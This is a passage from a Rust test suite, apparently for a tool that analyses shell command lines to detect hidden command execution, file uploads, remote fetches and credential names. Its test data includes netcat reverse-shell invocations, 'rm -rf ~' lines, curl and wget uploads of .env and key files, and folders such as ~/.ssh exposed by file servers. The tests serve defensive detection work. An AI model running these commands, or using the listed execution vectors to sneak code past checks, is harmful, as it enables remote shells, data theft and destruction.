            ("git", "grep --open-files-in-pager=id TODO", vec!["id"]),
            ("git", "grep -O TODO", vec![]),
            ("git", "rebase -x id main", vec!["id"]),
            ("git", "rebase --exec=id main", vec!["id"]),
            ("git", "cherry-pick -x abc", vec![]),
            ("git", "clone --upload-pack=id ./r x", vec!["id"]),
            ("git", "clone -qu id ./r", vec!["id"]),
            ("git", "ls-remote -u id .", vec!["id"]),
            ("git", "fetch --upload-pack id ../r", vec!["id"]),
            ("git", "fetch -u origin", vec![]),
            ("git", "push --receive-pack=id ../r main", vec!["id"]),
            ("git", "push --exec id ../r main", vec!["id"]),
            ("git", "push -u origin main", vec![]),
            ("git", "archive --remote=../r --exec=id HEAD", vec!["id"]),
            ("vim", "-es -c !id -c q", vec!["id"]),
            ("vim", "+%!sort file", vec!["{ cat -- file; } | sort"]),
            ("vim", "-c wq file", vec![]),
            (
                "make",
                "--eval=x:;id x",
                vec!["unknown: `make --eval` text holds recipes a shell runs"],
            ),
            ("make", "-j4 test", vec![]),
            ("make", "CC=id CFLAGS=-O2 all", vec!["id"]),
            ("make", "SHELL=id test", vec!["id"]),
            ("make", "PREFIX=/usr/local install", vec![]),
            ("entr", "-s id", vec!["id"]),
            ("entr", "-cs id -u", vec!["id -u"]),
            ("entr", "make test", vec![]),
            ("pm2", "start id", vec!["id"]),
            ("pm2", "stop all", vec![]),
            ("go", "build -toolexec id .", vec!["id"]),
            ("go", "test -toolexec=id ./...", vec!["id"]),
            ("go", "build -o app .", vec![]),
            ("npx", "-c id", vec!["id"]),
            ("npx", "--call=id", vec!["id"]),
            ("npm", "exec --call id", vec!["id"]),
            ("npm", "x -c id", vec!["id"]),
            ("npm", "exec -- eslint .", vec![]),
            ("npm", "ci", vec![]),
            ("pnpm", "-rc exec id -u", vec!["id -u"]),
            ("pnpm", "dlx --shell-mode id", vec!["id"]),
            ("pnpm", "exec eslint .", vec![]),
            ("pnpx", "-p cowsay -c id -u", vec!["id -u"]),
            ("pnpx", "cowsay hi", vec![]),
            ("bun", "exec id -u", vec!["id -u"]),
            ("bun", "exec id ?unknown", vec!["?unknown"]),
            ("yarn", "exec id", vec!["id"]),
            ("yarn", "install", vec![]),
            (
                "hyperfine",
                "-w 3 -p make id whoami",
                vec!["make", "id", "whoami"],
            ),
            ("hyperfine", "--runs 5 -- -x", vec!["-x"]),
            (
                "hyperfine",
                "-Np id --setup=whoami --cleanup true make",
                vec!["id", "whoami", "true", "make"],
            ),
            ("concurrently", "-n a,b id whoami", vec!["id", "whoami"]),
            ("watchexec", "-e rs -- cargo test", vec!["cargo", "test"]),
            ("nodemon", "-x id app.js", vec!["id"]),
            ("nodemon", "app.js", vec![]),
            // The Cargo Book, "Configuration": a runner or wrapper given as TOML.
            (
                "cargo",
                "run --config target.x86_64-unknown-linux-gnu.runner=[\"sh\",\"-c\",\"id\"]",
                vec!["'sh' '-c' 'id'"],
            ),
            (
                "cargo",
                "build --config=build.rustc-wrapper=\"/tmp/w\"",
                vec!["/tmp/w"],
            ),
            (
                "cargo",
                "test --config target.'cfg(unix)'.runner='id'",
                vec!["id"],
            ),
            ("cargo", "build --config build.jobs=4", vec![]),
            (
                "cargo",
                "run --config target.x.linker=[1]",
                vec!["unknown: the command cargo's `target.x.linker` names is only known when cargo reads its value"],
            ),
            // rpm(8): `%(CMD)` in the text `--eval` expands runs CMD.
            ("rpm", "--eval %(id)", vec!["id"]),
            ("rpm", "-E %{_libdir}/%(whoami)%(id)", vec!["whoami\nid"]),
            ("rpm", "-E %{_libdir}", vec![]),
            (
                "rpm",
                "--eval=%{lua:os.execute('id')}",
                vec!["unknown: rpm's macro text holds Lua code (`%{lua: …}`), which is not read"],
            ),
            // `go help run`: `-exec xprog` runs the program built.
            ("go", "test -exec=id ./...", vec!["id"]),
            ("go", "run -exec xprog .", vec!["xprog"]),
            ("go", "build -exec id", vec![]),
            // exec-maven-plugin: `exec:exec` runs `exec.executable` with `exec.args`.
            (
                "mvn",
                "exec:exec -Dexec.executable=rm -Dexec.args=-rf_~ -Dexec.args=-rf",
                vec!["rm -rf"],
            ),
            ("mvnw", "-D exec.executable=id exec:exec", vec!["id"]),
            ("mvn", "exec:java -Dexec.mainClass=a.B -Dexec.args=x", vec![]),
        ];
        for (program, line, expected) in cases {
            let args = words(line);
            let subcommand = args
                .iter()
                .find(|arg| !arg.starts_with('-'))
                .map(String::as_str);
            let found: Vec<String> =
                option_scripts(program, subcommand, &args, |word| word.starts_with('?'))
                    .into_iter()
                    .map(|script| script.unwrap_or_else(|why| format!("unknown: {why}")))
                    .collect();
            assert_eq!(found, expected, "{program} {line}");
        }
    }

    #[test]
    fn compilers_build_a_program_from_a_written_source() {
        let written = |source: &str| ["x.c", "m.rs", "m.go", "-"].contains(&source);
        let built = |program: &str, line: &str| {
            built_program(program, &words(line), written)
                .map(|built| (built.program, built.runs_now))
        };
        let kept = |name: &str| Some((name.to_owned(), false));
        assert_eq!(built("gcc", "x.c -o x"), kept("x"));
        assert_eq!(built("cc", "-O2 -ox x.c"), kept("x"));
        assert_eq!(built("clang", "x.c"), kept("a.out"));
        assert_eq!(built("rustc", "-O m.rs"), kept("m"));
        assert_eq!(built("go", "build m.go"), kept("m"));
        assert_eq!(built("gcc", "-x c - -o x"), kept("x"));
        assert_eq!(built("gcc", "main.c -o main"), None);
        assert_eq!(built("go", "vet m.go"), None);
        // Run at once: `tcc -run SOURCE ARGS…`, `go run`.
        assert_eq!(
            built("tcc", "-run x.c --flag"),
            Some(("a.out".to_owned(), true))
        );
        assert_eq!(built("tcc", "-run main.c x.c"), None);
        assert_eq!(built("go", "run m.go"), Some(("m".to_owned(), true)));
        assert_eq!(built("go", "run main.go"), None);
    }

    #[test]
    fn credential_names_are_marked_by_whole_parts() {
        for name in [
            "TOKEN",
            "GITHUB_TOKEN",
            "AWS_SECRET_ACCESS_KEY",
            "OPENAI_API_KEY",
            "stripe_apikey",
            "DB_PASSWORD",
            "SSH_PRIVATE_KEY",
            "GOOGLE_APPLICATION_CREDENTIALS",
            "SESSION_COOKIE",
        ] {
            assert!(names_a_credential(name), "{name}");
        }
        for name in ["PATH", "TOKENIZER_PATH", "KEYBOARD", "API_URL", "HOME", "v"] {
            assert!(!names_a_credential(name), "{name}");
        }
    }

    #[test]
    fn git_command_settings_read_alike_by_key_and_by_variable() {
        let key = |text: &str| setting_script(GIT_COMMAND_SETTINGS, text);
        assert_eq!(key("core.sshCommand=ssh -v").as_deref(), Some("ssh -v"));
        assert_eq!(key("diff.pdf.textconv=!x").as_deref(), Some("x"));
        assert_eq!(
            key("sequence.editor=sed -i s/^pick/drop/").as_deref(),
            Some("sed -i s/^pick/drop/ \"$@\"")
        );
        assert_eq!(key("user.name=sed"), None);
        // Each variable's row reads its value as the key does.
        for setting in GIT_COMMAND_SETTINGS
            .iter()
            .filter(|row| row.variable.is_some())
        {
            assert_eq!(
                key(&format!("{}=cmd", setting.key)),
                Some(setting_line(setting, "cmd")),
                "{:?}",
                setting.variable
            );
        }
    }

    #[test]
    fn an_http_client_uploads_the_files_its_options_name() {
        let uploaded = |program: &str, line: &str| {
            let args = words(line);
            uploaded_files(program, &args)
                .into_iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        };
        // curl(1): `-T`, data options whose value starts with `@`, `--data-urlencode name@F`,
        // form fields `name=@F;type=…` and `name=<F`.
        assert_eq!(uploaded("curl", "-T a.tar https://x"), ["a.tar"]);
        assert_eq!(uploaded("curl", "-Ta.tar https://x"), ["a.tar"]);
        assert_eq!(uploaded("curl", "--upload-file=a https://x"), ["a"]);
        assert_eq!(
            uploaded("curl", "-d @d.json --data-binary @/tmp/d.rdb x"),
            ["d.json", "/tmp/d.rdb"]
        );
        assert_eq!(uploaded("curl", "-d@k x"), ["k"]);
        assert_eq!(
            uploaded("curl", "--data-urlencode q@f --data-urlencode m=a@b x"),
            ["f"]
        );
        assert_eq!(
            uploaded("curl", "-F f=@k.pem;type=text/plain -F g=<.env -F h=v x"),
            ["k.pem", ".env"]
        );
        // Text that holds `@` sends no file.
        assert!(uploaded("curl", "-d email=a@b.example -u me@x https://x").is_empty());
        assert_eq!(uploaded("wget", "--post-file=.env https://x"), [".env"]);
        assert!(uploaded("http", "POST x @f").is_empty());
    }

    #[test]
    fn autorun_files_are_named_by_a_part_of_their_path_or_a_pattern_of_their_name() {
        assert!(autorun_file("justfile", "/p/justfile"));
        assert!(autorun_file("/.git/hooks/", "/p/.git/hooks/pre-commit"));
        assert!(autorun_file("test_*.py", "/p/tests/test_x.py"));
        assert!(autorun_file("*_test.go", "/p/x_test.go"));
        assert!(autorun_file("jest.config.*", "/p/jest.config.ts"));
        assert!(!autorun_file("test_*.py", "/p/latest_results.txt"));
        assert!(!autorun_file("test_*.py", "/p/test_/notes.txt"));
        assert!(!autorun_file("*_test.go", "/p/_test.go.txt"));
    }

    #[test]
    fn file_servers_serve_the_folders_they_name_or_their_own() {
        let cases: [(&str, &str, Option<&[&str]>); 20] = [
            ("php", "-S 0.0.0.0:80 -t ~/.ssh", Some(&["~/.ssh"])),
            ("php8.2", "-S localhost:80", Some(&["."])),
            ("php", "-r echo(1);", None),
            ("python3", "-m http.server -d ~/.ssh 80", Some(&["~/.ssh"])),
            ("python3", "-m http.server --directory=/", Some(&["/"])),
            ("python3", "-m http.server 8000", Some(&["."])),
            ("python3", "-mhttp.server -d ~/.ssh", Some(&["~/.ssh"])),
            ("python3", "-I -m http.server -d /", Some(&["/"])),
            ("python3", "-c x -m http.server -d /", None),
            ("python3", "-m pytest", None),
            // An option's value among the operands is taken for a folder too: a path
            // more, never one fewer.
            ("ruby", "-run -e httpd ~ -p 80", Some(&["~", "80"])),
            ("ruby", "-e httpd", None),
            ("httpd", "-f -h ~ -p 80", Some(&["~"])),
            ("caddy", "file-server --root ~", Some(&["~"])),
            ("http-server", "dist -p 80", Some(&["dist", "80"])),
            ("ngrok", "http file:///home/u", Some(&["/home/u"])),
            ("ngrok", "http 8080", None),
            ("tailscale", "serve --bg /home/u", Some(&["/home/u"])),
            ("tailscale", "funnel ~/.ssh", Some(&["~/.ssh"])),
            ("tailscale", "funnel 3000", None),
        ];
        for (program, line, expected) in cases {
            let expected = expected.map(|folders| folders.iter().map(|f| f.to_string()).collect());
            assert_eq!(
                served_folders(program, &words(line)),
                expected,
                "{program} {line}"
            );
        }
    }

    #[test]
    fn runners_given_a_url_or_a_repository_fetch_what_they_run() {
        let cases = [
            ("npx", "-y github:o/r", Some("github:o/r")),
            ("npx", "o/r --help", Some("o/r")),
            (
                "npx",
                "-p cowsay -p git+ssh://h/r cowsay",
                Some("git+ssh://h/r"),
            ),
            ("npx", "prettier --check .", None),
            ("npx", "@biomejs/biome check ./src", None),
            ("npx", "-p cowsay cowsay github:o/r", None),
            (
                "npm",
                "exec --yes -- https://h/p.tgz",
                Some("https://h/p.tgz"),
            ),
            ("npm", "run build", None),
            ("npm", "--prefix web exec github:o/r", Some("github:o/r")),
            ("pnpm", "-C web dlx o/r", Some("o/r")),
            ("pnpm", "dlx o/r", Some("o/r")),
            ("bun", "x github:o/r", Some("github:o/r")),
            ("bunx", "vitest run", None),
            ("deno", "run -A https://h/mod.ts", Some("https://h/mod.ts")),
            ("deno", "run --config deno.json main.ts https://api", None),
            ("deno", "test -A", None),
            ("uvx", "--from git+https://h/r x", Some("git+https://h/r")),
            (
                "uvx",
                "--with=https://h/w.whl ruff",
                Some("https://h/w.whl"),
            ),
            ("uvx", "ruff check", None),
            (
                "nix",
                "run github:attacker/flake",
                Some("github:attacker/flake"),
            ),
            (
                "nix",
                "shell nixpkgs#jq git+https://h/r -c jq",
                Some("git+https://h/r"),
            ),
            ("nix", "develop gitlab:o/r", Some("gitlab:o/r")),
            ("nix", "run nixpkgs#hello", None),
            ("nix", "develop", None),
            ("gh", "extension install owner/repo", Some("owner/repo")),
            ("gh", "ext install https://h/o/r", Some("https://h/o/r")),
            ("gh", "extension install .", None),
            (
                "uv",
                "tool run --from=git+https://h/r x",
                Some("git+https://h/r"),
            ),
            ("uv", "run pytest", None),
            ("uv", "run https://h/x.py", Some("https://h/x.py")),
            (
                "uv",
                "run --with=git+https://h/r x.py",
                Some("git+https://h/r"),
            ),
            ("uv", "run --with rich scripts/report.py", None),
            ("pipx", "run https://h/x.py", Some("https://h/x.py")),
            (
                "pipx",
                "run --spec git+https://h/r x",
                Some("git+https://h/r"),
            ),
            ("pipx", "run black .", None),
            (
                "pip",
                "install -q requests git+https://h/r",
                Some("git+https://h/r"),
            ),
            (
                "pip3",
                "install https://h/p.tar.gz",
                Some("https://h/p.tar.gz"),
            ),
            (
                "pip",
                "install -e git+https://h/r#egg=x",
                Some("git+https://h/r#egg=x"),
            ),
            ("pip", "install -r requirements.txt", None),
            ("pip", "install requests 'flask>=3'", None),
            ("pip3", "install --index-url https://h/simple torch", None),
            ("uv", "pip install https://h/p.whl", Some("https://h/p.whl")),
            ("npm", "install https://h/p.tgz", Some("https://h/p.tgz")),
            ("npm", "i -D github:o/r", Some("github:o/r")),
            ("npm", "install --save-dev o/r", Some("o/r")),
            ("npm", "install", None),
            ("npm", "ci", None),
            ("npm", "i -D @types/node ./local", None),
            ("yarn", "add o/r", Some("o/r")),
            ("cargo", "install --git https://h/r x", Some("https://h/r")),
            ("cargo", "install ripgrep", None),
            ("cargo", "install --path .", None),
            ("go", "install example.com/x/y@latest", None),
            (
                "go",
                "run example.com/x/y@latest",
                Some("example.com/x/y@latest"),
            ),
            ("go", "run -tags e2e ./cmd/x", None),
            (
                "uvx",
                "--python-preference managed --from git+https://h/x x",
                Some("git+https://h/x"),
            ),
            ("npx", "--loglevel silent github:o/r", Some("github:o/r")),
            ("npx", "--yes wait-on http://localhost:3000", None),
            (
                "npx",
                "--new-option wait-on http://localhost:3000",
                Some("http://localhost:3000"),
            ),
            ("npx", "eslint --fix src/a", None),
            ("go", "run .", None),
            ("uv", "add git+https://x.io/r", Some("git+https://x.io/r")),
            ("uv", "add requests", None),
            (
                "cpanm",
                "-l local https://x.io/p.tar.gz",
                Some("https://x.io/p.tar.gz"),
            ),
            ("cpanm", "Moose", None),
            (
                "pip",
                "install -r https://x.io/requirements.txt",
                Some("https://x.io/requirements.txt"),
            ),
            (
                "poetry",
                "add --group dev git+https://x.io/r.git",
                Some("git+https://x.io/r.git"),
            ),
            ("poetry", "add --group dev ruff", None),
            (
                "pdm",
                "add -G test https://x.io/p.whl",
                Some("https://x.io/p.whl"),
            ),
            ("pipenv", "install requests", None),
            (
                "yarn",
                "global add https://x.io/c.tgz",
                Some("https://x.io/c.tgz"),
            ),
            ("yarn", "global add typescript", None),
        ];
        for (program, line, expected) in cases {
            assert_eq!(
                fetched_package(program, &words(line)),
                expected,
                "{program} {line}"
            );
        }
    }

    #[test]
    fn every_system_installer_row_finds_the_package_file_it_installs() {
        let cases = [
            ("dpkg", "-i /tmp/x.deb", "/tmp/x.deb"),
            ("dpkg", "--force-all --install x.deb", "x.deb"),
            ("apt", "install -y ./x.deb", "./x.deb"),
            ("apt-get", "-o Debug::X=1 install ./x.deb", "./x.deb"),
            ("rpm", "-Uvh x.rpm", "x.rpm"),
            ("rpm", "--nodeps -i x.rpm", "x.rpm"),
            ("dnf", "install -y x.rpm", "x.rpm"),
            ("yum", "install x.rpm", "x.rpm"),
            ("zypper", "install x.rpm", "x.rpm"),
            ("pacman", "-U x.pkg.tar.zst", "x.pkg.tar.zst"),
            ("apk", "add --allow-untrusted x.apk", "x.apk"),
            ("gem", "install ./x.gem", "./x.gem"),
            ("snap", "install --dangerous x.snap", "x.snap"),
            ("flatpak", "install x.flatpak", "x.flatpak"),
            (
                "deno",
                "install -A https://x.example/x.ts",
                "https://x.example/x.ts",
            ),
        ];
        for (program, words, file) in cases {
            let args: Vec<String> = words.split(' ').map(str::to_owned).collect();
            let found = installed_package(program, &args, |spec| spec == file);
            assert_eq!(found, Some(file), "{program} {words}");
        }
        // A mode that installs nothing: `dpkg -c` lists a package's files.
        let args = vec!["-c".to_owned(), "x.deb".to_owned()];
        assert_eq!(installed_package("dpkg", &args, |_| true), None);
    }

    #[test]
    fn every_folder_runner_row_runs_the_folders_code_with_its_words() {
        // The program, its words, and the folder options it works from when it runs the
        // folder's code (`None` when it runs none of it).
        let cases: &[(&str, &str, Option<&[&str]>)] = &[
            ("npm", "install", Some(&[])),
            ("npm", "i", Some(&[])),
            ("npm", "--prefix web ci", Some(&["web"])),
            ("npm", "ci --ignore-scripts", None),
            ("npm", "view react", None),
            ("npm", "run build", Some(&[])),
            ("npm", "test --ignore-scripts", Some(&[])),
            ("npm", "--version", None),
            ("yarn", "", Some(&[])),
            ("yarn", "--cwd app --ignore-scripts", None),
            ("yarn", "--cwd app install --ignore-scripts", None),
            ("yarn", "add left-pad", Some(&[])),
            ("pnpm", "-C app i", Some(&["app"])),
            ("yarn", "dev", Some(&[])),
            ("pnpm", "why react", None),
            ("bun", "", None),
            ("bun", "test", Some(&[])),
            ("deno", "task build", Some(&[])),
            ("deno", "fmt", None),
            ("vite", "build", Some(&[])),
            (
                "eslint",
                "-c cfg/eslint.config.js .",
                Some(&["cfg/eslint.config.js"]),
            ),
            ("make", "-Cvendor/x install", Some(&["vendor/x"])),
            ("gmake", "-f ../d/Makefile", Some(&["../d/Makefile"])),
            ("make", "--help", None),
            ("cmake", "-S d -B build", Some(&["d"])),
            ("cmake", "-E rm -rf build", None),
            ("ninja", "-C build", Some(&["build"])),
            ("bazel", "build //...", Some(&[])),
            ("bazel", "version", None),
            (
                "cargo",
                "build --manifest-path d/Cargo.toml",
                Some(&["d/Cargo.toml"]),
            ),
            ("cargo", "install --path d", Some(&["d"])),
            ("cargo", "fmt", None),
            ("go", "generate ./...", Some(&[])),
            ("go", "build ./...", None),
            ("go", "-C d test ./...", Some(&["d"])),
            ("pytest", "-q", Some(&[])),
            ("unittest", "discover", Some(&[])),
            ("tox", "-e py312", Some(&[])),
            ("uv", "sync", Some(&[])),
            ("uv", "pip list", None),
            ("uv", "--directory d sync", Some(&["d"])),
            ("poetry", "install", Some(&[])),
            ("hatch", "version", None),
            ("rake", "-C d test", Some(&["d"])),
            ("bundle", "", Some(&[])),
            ("bundle", "exec rspec", Some(&[])),
            ("bundle", "config set path vendor", None),
            ("gem", "build x.gemspec", Some(&[])),
            ("gem", "install rails", None),
            ("composer", "install", Some(&[])),
            ("composer", "install --no-scripts", None),
            ("composer", "-d app run test", Some(&["app"])),
            ("gradle", "-p d build", Some(&["d"])),
            ("mvn", "-f d/pom.xml package", Some(&["d/pom.xml"])),
            ("mix", "deps.get", Some(&[])),
            ("mix", "new app", None),
            ("stack", "build", Some(&[])),
            ("swift", "build", Some(&[])),
            ("dotnet", "--info", None),
            ("nix-shell", "", Some(&[])),
            ("nix-shell", "-p hello", None),
            ("nix", "develop", Some(&[])),
            ("nix", "search nixpkgs hello", None),
            ("just", "-f d/justfile build", Some(&["d/justfile"])),
            ("pre-commit", "run --all-files", Some(&[])),
            ("direnv", "allow", Some(&[])),
            ("direnv", "status", None),
            ("git", "status", None),
            ("npm", "\0cmd", Some(&[])),
        ];
        let mut hit = vec![false; FOLDER_RUNNERS.len()];
        for (program, line, expected) in cases {
            let args = words(line);
            let row =
                folder_runner(program, &args, |word| word.starts_with('\0')).map(|(row, _)| row);
            let folders = row.map(|row| runner_folders(row, &args));
            let expected = expected.map(|folders| folders.to_vec());
            assert_eq!(folders, expected, "{program} {line}");
            if let Some(at) = row.and_then(|row| FOLDER_RUNNERS.iter().position(|r| r == row)) {
                if let Some(hit) = hit.get_mut(at) {
                    *hit = true;
                }
            }
        }
        for (row, hit) in FOLDER_RUNNERS.iter().zip(hit) {
            assert!(hit, "no case reads the row of {:?}", row.programs);
        }
    }

    #[test]
    fn a_local_package_is_a_path_not_a_name() {
        assert_eq!(local_package("."), Some("."));
        assert_eq!(local_package("./d"), Some("./d"));
        assert_eq!(local_package("file:../d"), Some("../d"));
        assert_eq!(local_package("pkg/sub"), Some("pkg/sub"));
        assert_eq!(local_package("requests"), None);
        assert_eq!(local_package("@types/node"), None);
        assert_eq!(local_package("git+https://h/r"), None);
    }

    #[test]
    fn installers_install_each_package_they_are_given() {
        let written = |spec: &str| spec == "./x.tgz" || spec == "x.whl";
        let installed = |program: &str, line: &str| {
            installed_package(program, &words(line), written).map(str::to_owned)
        };
        assert_eq!(
            installed("npm", "i -D left-pad ./x.tgz").as_deref(),
            Some("./x.tgz")
        );
        assert_eq!(
            installed("pip", "install -r req.txt x.whl").as_deref(),
            Some("x.whl")
        );
        assert_eq!(installed("npm", "install ./packages/ui"), None);
        let list = words("install -r x.whl");
        assert!(lists_packages(&list, "x.whl"));
        assert!(lists_packages(
            &words("install --requirement=r.txt"),
            "r.txt"
        ));
        assert!(!lists_packages(&words("install x.whl"), "x.whl"));
        // A runner runs its first operand, which `run_operand` asks about.
        assert_eq!(installed("npx", "./x.tgz"), None);
    }

    #[test]
    fn builtins_read_their_options_as_their_getopt_does() {
        // `help mapfile`, `help compgen`, `help hash`: clustered, glued or apart.
        let args = words("-t -u 3 -Ccb -c1 lines");
        assert_eq!(
            builtin_options("mapfile", &args),
            Some((
                vec![('t', ""), ('u', "3"), ('C', "cb"), ('c', "1")],
                vec!["lines"]
            ))
        );
        assert_eq!(
            builtin_code("compgen", &words("-W a -C id -- x")),
            vec![(Evaluation::Expanded, "a"), (Evaluation::Script, "id")]
        );
        assert_eq!(
            builtin_options("hash", &words("-lp/bin/rm ls")),
            Some((vec![('l', ""), ('p', "/bin/rm")], vec!["ls"]))
        );
        assert_eq!(builtin_options("complete", &words("-C id x")), None);
    }

    #[test]
    fn a_program_called_by_another_name_is_read_as_itself() {
        let called = |program: &str, line: &str| {
            let (program, args) = called_as(program.to_owned(), words(line));
            format!("{program} {}", args.join(" "))
        };
        assert_eq!(
            called("git-push", "--force origin"),
            "git push --force origin"
        );
        assert_eq!(
            called("git-filter-repo", "--path x"),
            "git filter-repo --path x"
        );
        assert_eq!(called("hub", "push -f"), "git push -f");
        assert_eq!(called("sudo-rs", "id"), "sudo id");
        assert_eq!(called("mariadb-admin", "-f drop x"), "mysqladmin -f drop x");
        assert_eq!(called("finch", "volume prune -f"), "docker volume prune -f");
        assert_eq!(called("coreutils", "--coreutils-prog=rm -rf x"), "rm -rf x");
        // capsh(1) runs bash with the words after `--`; with none, it is itself.
        assert_eq!(called("capsh", "--drop=cap_net_raw -- -c id"), "bash -c id");
        assert_eq!(called("capsh", "--print"), "capsh --print");
        assert_eq!(called("coreutils", "--help"), "coreutils --help");
        assert_eq!(called("git-", "x"), "git- x");
    }

    #[test]
    fn each_transfer_client_names_what_its_commands_send_and_run() {
        let read = |program, args: &[&str], input| {
            let args: Vec<String> = args.iter().map(|arg| (*arg).to_owned()).collect();
            transfer_commands(program, &args, input, |word| word.starts_with('?'))
                .unwrap_or_default()
        };
        let lftp = read(
            "lftp",
            &["-e", "put ~/.pypirc; !id", "-f", "cmds", "host"],
            None,
        );
        assert_eq!(lftp.sent, ["~/.pypirc"]);
        assert_eq!(lftp.shell_lines, ["id"]);
        assert_eq!(lftp.files, ["cmds"]);
        assert!(lftp.reads_input);
        assert_eq!(read("lftp", &["-c", "?CMDS"], None).unknown, ["?CMDS"]);
        let glued = read("lftp", &["-cput .env; !id", "host"], None);
        assert_eq!(
            (glued.sent, glued.shell_lines),
            (vec![".env".to_owned()], vec!["id".to_owned()])
        );
        assert_eq!(read("sftp", &["-bcmds", "host"], None).files, ["cmds"]);
        let sftp = read(
            "sftp",
            &["-b", "batch", "host"],
            Some("put -r dist\n! rm -rf ~\n"),
        );
        assert_eq!(sftp.sent, ["dist"]);
        assert_eq!(sftp.shell_lines, ["rm -rf ~"]);
        assert_eq!(sftp.files, ["batch"]);
        assert!(!sftp.reads_input);
        let ftp = read("ftp", &["-n", "host"], Some("send notes.txt\n!"));
        assert_eq!(ftp.sent, ["notes.txt"]);
        assert!(ftp.shell_lines.is_empty() && ftp.files.is_empty());
        assert_eq!(transfer_commands("scp", &[], None, |_| false), None);
    }

    #[test]
    fn a_netcat_runs_what_its_exec_options_name() {
        let exec = |words: &str| NetcatRun::Exec(words.split(' ').map(str::to_owned).collect());
        let script = |line: &str| NetcatRun::Script(line.to_owned());
        // nc.traditional(1), ncat(1) and BusyBox's nc; words apart at `|`.
        for (line, runs) in [
            ("-e|/bin/sh|203.0.113.7|4444", vec![exec("/bin/sh")]),
            ("-lvnp|4444|-e/bin/bash", vec![exec("/bin/bash")]),
            ("-nve|sh|h|9", vec![exec("sh")]),
            ("--exec=sh|h|9", vec![exec("sh")]),
            ("--exec|bash -i|h|9", vec![exec("bash -i")]),
            ("-c|rm -rf ~|h|9", vec![script("rm -rf ~")]),
            ("--sh-exec=id|h|9", vec![script("id")]),
            ("--lua-exec|x.lua|h|9", vec![exec("x.lua")]),
            // A value of another option, a port, a cluster with a valued letter before
            // `e`, and words after `--` run nothing.
            ("-p|4444|-l", vec![]),
            ("-w|3|-z|h|22", vec![]),
            ("-pe|4444|h", vec![]),
            ("--|-e|sh", vec![]),
            ("-e", vec![]),
        ] {
            let args: Vec<String> = line.split('|').map(str::to_owned).collect();
            assert_eq!(netcat_runs(&args), runs, "{line}");
        }
    }

    #[test]
    fn socat_addresses_name_files_and_commands() {
        // socat(1): `socat [options] <address> <address>`, types without case, options
        // after a comma, `-u` from the first to the second.
        let path = |path: &str, written| SocatAddress::Path {
            path: path.to_owned(),
            written,
        };
        assert_eq!(
            socat_addresses(&words("-u FILE:/h/.kube/config TCP:x:9")),
            vec![path("/h/.kube/config", false)]
        );
        assert_eq!(
            socat_addresses(&words("-u TCP-LISTEN:9 create:/etc/x,perm=0600")),
            vec![path("/etc/x", true)]
        );
        assert_eq!(
            socat_addresses(&words("-d -d -lf log - GOPEN:/etc/hosts")),
            vec![path("/etc/hosts", true)]
        );
        assert_eq!(
            socat_addresses(&words("-U OPEN:a,rdonly /tmp/b")),
            vec![path("a", false), path("/tmp/b", false)]
        );
        assert_eq!(
            socat_addresses(&words("UNIX-CONNECT:/run/d.sock EXEC:id,pty")),
            vec![
                path("/run/d.sock", false),
                SocatAddress::Exec(vec!["id".to_owned()])
            ]
        );
        assert_eq!(
            socat_addresses(&words("TCP:x:1 SYSTEM:id")),
            vec![SocatAddress::Script("id".to_owned())]
        );
    }

    #[test]
    fn a_key_binding_runs_the_command_after_its_keys() {
        // `help bind`: `-x keyseq:shell-command`.
        let cases = [
            (r#""\C-t": rm -rf x"#, Some("rm -rf x")),
            (r#""\C-t":"id""#, Some("id")),
            (r#""\":": id"#, Some("id")),
            (r"\C-t: 'id -u'", Some("id -u")),
            ("no binding", None),
        ];
        for (binding, expected) in cases {
            assert_eq!(bound_command(binding), expected, "{binding}");
        }
    }

    #[test]
    fn remote_shells_run_the_words_after_their_options_and_host() {
        // From ssh(1): `ssh [options] destination [command [argument ...]]`; pssh(1),
        // pdsh(1), clush(1) take their hosts from options.
        let cases = [
            ("ssh", "host rm -rf x", Some("rm -rf x")),
            ("ssh", "-p 22 -i key host ls", Some("ls")),
            ("ssh", "-p22 -tt host ls -la", Some("ls -la")),
            ("ssh", "-o Port=22 host", None),
            ("ssh", "host", None),
            ("ssh", "-- host id", Some("id")),
            ("pssh", "-h hosts.txt -i id -u", Some("id -u")),
            ("pssh", "--hosts hosts.txt -l root id", Some("id")),
            ("parallel-ssh", "-H a -H b -- id", Some("id")),
            ("pdsh", "-w h[1-3] id", Some("id")),
            ("pdsh", "-Rssh -w h1,h2 -N uptime", Some("uptime")),
            ("clush", "-w n1 -b id", Some("id")),
            ("clush", "--nodes n1 --user u id", Some("id")),
            ("clush", "-w n1", None),
            ("scp", "a host:b", None),
        ];
        for (program, line, expected) in cases {
            assert_eq!(
                remote_command(program, &words(line)).as_deref(),
                expected,
                "{program} {line}"
            );
        }
    }

    #[test]
    fn builtins_set_the_variables_their_words_name() {
        let cases = [
            ("read", "-r -p name: CDPATH REST", vec!["CDPATH", "REST"]),
            ("read", "-a PARTS -t 5", vec!["PARTS"]),
            ("printf", "-v CDPATH %s /", vec!["CDPATH"]),
            ("printf", "%s\\n x", vec![]),
            ("mapfile", "-t -n 2 LINES", vec!["LINES"]),
            ("mapfile", "-t", vec!["MAPFILE"]),
            ("readarray", "-t -u 3", vec!["MAPFILE"]),
            ("read", "-r", vec!["REPLY"]),
            ("read", "-r -a A", vec!["A"]),
            ("getopts", "ab: opt", vec!["opt", "OPTARG", "OPTIND"]),
            ("getopts", "ab: opt -a x", vec!["opt", "OPTARG", "OPTIND"]),
            ("let", "q=1 n+=2 ++i j-- k==1", vec!["q", "n", "i", "j"]),
            ("let", "a=b=c x<<=1", vec!["a", "b", "x"]),
            ("echo", "CDPATH", vec![]),
        ];
        for (program, line, expected) in cases {
            let args = words(line);
            assert_eq!(variables_set(program, &args), expected, "{program} {line}");
        }
    }

    #[test]
    fn python_runs_the_module_its_m_option_names() {
        // From python(1): options end at `-c`, `-m` or the script, and `-W`/`-X` take a value.
        let cases = [
            ("-m zipfile -e a.zip out", Some(("zipfile", "-e a.zip out"))),
            ("-I -B -m tarfile -l a.tar", Some(("tarfile", "-l a.tar"))),
            ("-Im zipfile -l a.zip", Some(("zipfile", "-l a.zip"))),
            ("-mzipfile -l a.zip", Some(("zipfile", "-l a.zip"))),
            ("-W ignore -X dev -m zipfile", Some(("zipfile", ""))),
            ("-Wignore -m zipfile", Some(("zipfile", ""))),
            ("-W m zipfile", None),
            ("-c 'x' -m zipfile", None),
            ("script.py -m zipfile", None),
            ("- -m zipfile", None),
        ];
        for (line, expected) in cases {
            let args = words(line);
            let found = python_module(&args).map(|(module, rest)| (module, rest.join(" ")));
            let expected = expected.map(|(module, rest)| (module, rest.to_owned()));
